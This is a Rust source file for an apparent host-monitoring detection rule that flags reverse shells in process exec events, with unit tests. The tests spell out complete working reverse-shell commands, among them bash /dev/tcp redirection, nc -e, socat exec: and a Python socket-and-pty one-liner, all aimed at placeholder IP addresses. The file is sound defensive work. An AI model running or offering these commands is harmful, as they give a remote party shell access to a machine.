//! Reverse shells: a shell whose standard input and output are a network socket, or a tool
//! started to hand one over (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`,
//! `socat … exec:…`, `python -c '…socket…pty.spawn…'`). Opening `/dev/tcp` on another descriptor
//! (`exec 3<>/dev/tcp/…`, a health check) is not one. This is as conclusive as a miner
//! signature, so it counts whether or not the profile has the command.

use profiles::{Event, EventDetail};

use super::{Context, basename, find_lower, program_shown};
use crate::alert::Reason;

/// The rule name.
pub const RULE: &str = "reverse-shell";

/// Weight of a reverse shell.
pub const WEIGHT: f64 = 0.92;

/// What in the arguments gives it away, if anything.
fn sign(prog: &str, argv: &[String]) -> Option<&'static str> {
    let any = |needle: &str| argv.iter().any(|a| find_lower(a, needle).is_some());
    let dev_net = any("/dev/tcp/") || any("/dev/udp/");
    let std_redirect = any("0>&1") || any("0<&") || any(">&/dev/") || any(">& /dev/") || any("-i");
    if dev_net && std_redirect {
        return Some("a shell's input and output redirected to /dev/tcp");
    }
    let name = basename(prog);
    let is_nc = matches!(
        name,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    );
    if is_nc
        && argv.iter().any(|a| {
            a == "-e" || a == "-c" || a.starts_with("--exec") || a.starts_with("--sh-exec")
        })
    {
        return Some("netcat executing a program for the connection (-e)");
    }
    if name == "socat" && any("exec:") && (any("tcp") || any("udp") || any("ssl")) {
        return Some("socat connecting a program to a socket (exec:)");
    }
    let scripting = name.starts_with("python")
        || name.starts_with("perl")
        || name.starts_with("ruby")
        || name == "php";
    if scripting
        && any("socket")
        && (any("pty.spawn") || any("dup2") || any("/bin/sh") || any("/bin/bash") || any("exec("))
    {
        return Some("a one-line script that connects a shell to a socket");
    }
    None
}

/// The reverse-shell reason for an exec that hands a shell to a network peer.
pub fn check(e: &Event, _ctx: &Context<'_>) -> Option<Reason> {
    let EventDetail::Exec { filename, argv, .. } = &e.detail else {
        return None;
    };
    let what = sign(filename, argv)?;
    Some(Reason::new(
        RULE,
        WEIGHT,
        format!("reverse shell: {} runs {what}", program_shown(e)),
        Some(format!("exec {filename}")),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn reverse_shells_are_recognised() {
        for (prog, args) in [
            (
                "/bin/bash",
                &["/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"][..],
            ),
            (
                "/bin/sh",
                &["sh", "-c", "sh 0<&196; exec 196<>/dev/tcp/1.2.3.4/80"][..],
            ),
            (
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"][..],
            ),
            (
                "/usr/bin/ncat",
                &["ncat", "--sh-exec", "sh", "1.2.3.4", "4444"][..],
            ),
            (
                "/usr/bin/socat",
                &["socat", "tcp:1.2.3.4:4444", "exec:/bin/sh,pty"][..],
            ),
            (
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
                ][..],
            ),
        ] {
            assert!(sign(prog, &argv(args)).is_some(), "{args:?}");
        }
    }

    #[test]
    fn ordinary_network_commands_are_not() {
        for (prog, args) in [
            (
                "/bin/bash",
                &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; echo ok >&3"][..],
            ),
            ("/bin/bash", &["bash", "-i"][..]),
            ("/usr/bin/nc", &["nc", "-z", "127.0.0.1", "80"][..]),
            (
                "/usr/bin/socat",
                &["socat", "tcp-listen:80", "tcp:127.0.0.1:8080"][..],
            ),
            ("/usr/bin/python3", &["python3", "-m", "http.server"][..]),
        ] {
            assert_eq!(sign(prog, &argv(args)), None, "{args:?}");
        }
    }
}
